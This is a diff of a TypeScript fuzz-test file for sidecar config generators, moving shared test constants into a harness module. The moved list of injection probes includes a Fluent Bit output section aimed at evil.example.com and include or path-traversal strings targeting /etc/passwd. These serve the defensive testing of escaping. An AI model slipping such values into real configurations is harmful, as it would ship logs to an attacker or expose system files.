@@ -9,11 +9,9 @@
  */
 import { appendFileSync } from 'fs';
 import * as fc from 'fast-check';
-import { attempt, describeError, KINDS, Outcome, parsesBack, Platform, PLATFORMS } from './harness';
+import { attempt, describeError, KINDS, Outcome, parsesBack, Platform, PLATFORMS, PropKind, SPECIALS, WRONG } from './harness';
 import { KNOWN } from './known';
 import { ErrorCode } from '../../src/core/errors';
-
-type PropKind = 'string' | 'number' | 'boolean' | 'enum' | 'array' | 'map' | 'object';
 
 /** Top-level props of each sidecar's props interface and their declared kind. */
 const PROPS: { [sidecar: string]: { [prop: string]: PropKind } } = {
@@ -226,25 +224,6 @@ const PROPS: { [sidecar: string]: { [prop: string]: PropKind } } = {
 const REQUIRED: { [sidecar: string]: string[] } = {
   Sidecar: ['image'], VaultAgentSidecar: ['address', 'auth', 'secrets'], FluentBitSidecar: ['outputs'], DaprSidecar: ['appId'], XRayDaemonSidecar: ['region'],
 };
-
-const HUGE = 'a'.repeat(100_000);
-/** Values of the wrong runtime type (and boundaries) for a prop of each declared kind. */
-const WRONG: { [k in PropKind]: Array<[string, unknown]> } = {
-  string: [['null', null], ['number', 42], ['object', {}], ['array', ['x']], ['boolean', true], ['NaN', NaN], ['empty', ''], ['huge', HUGE]],
-  number: [['null', null], ['string', '80'], ['object', {}], ['array', [1]], ['NaN', NaN], ['Infinity', Infinity], ['-Infinity', -Infinity], ['-1', -1], ['0', 0], ['1.5', 1.5], ['1e21', 1e21], ['2^31', 2 ** 31]],
-  boolean: [['null', null], ['"false"', 'false'], ['"no"', 'no'], ['0', 0], ['1', 1], ['object', {}]],
-  enum: [['null', null], ['"BOGUS"', 'BOGUS'], ['number', 42], ['object', {}], ['array', []], ['huge', HUGE]],
-  array: [['null', null], ['" "', ' '], ['object', {}], ['number', 1e21], ['[null]', [null]], ['[42]', [42]], ['[undefined]', [undefined]]],
-  map: [['null', null], ['" "', ' '], ['array', ['x']], ['number', 42], ['{k:null}', { K: null }], ['{k:42}', { K: 42 }], ['{k:{}}', { K: {} }]],
-  object: [['null', null], ['" "', ' '], ['array', []], ['number', 42], ['{x:NaN}', { x: NaN }]],
-};
-
-/** Strings that carry each target format's special characters. */
-const SPECIALS: Array<[string, string]> = [
-  ['newline', 'a\nb'], ['quote', 'a"b'], ['single quote', "a'b"], ['${', 'a${b}'], ['%{', 'a%{b}'], ['#', 'a # b'], ['colon', 'a: b'],
-  ['[', '[OUTPUT]'], ['@INCLUDE', '@INCLUDE /etc/passwd'], ['..', '../../etc/passwd'], ['backslash', 'a\\b'],
-  ['yaml 1.1 octal', '0o17'], ['yaml bool', 'yes'], ['leading space', ' a'], ['section injection', 'x\n[OUTPUT]\n    name http\n    host evil.example.com'],
-];
 
 /** String-valued props per sidecar whose value ends up in a generated file: how to set it, and the shapes it may parse back as. */
 const STRING_SITES: { [sidecar: string]: Array<[string, (s: string) => any, (s: string) => string[]]> } = {
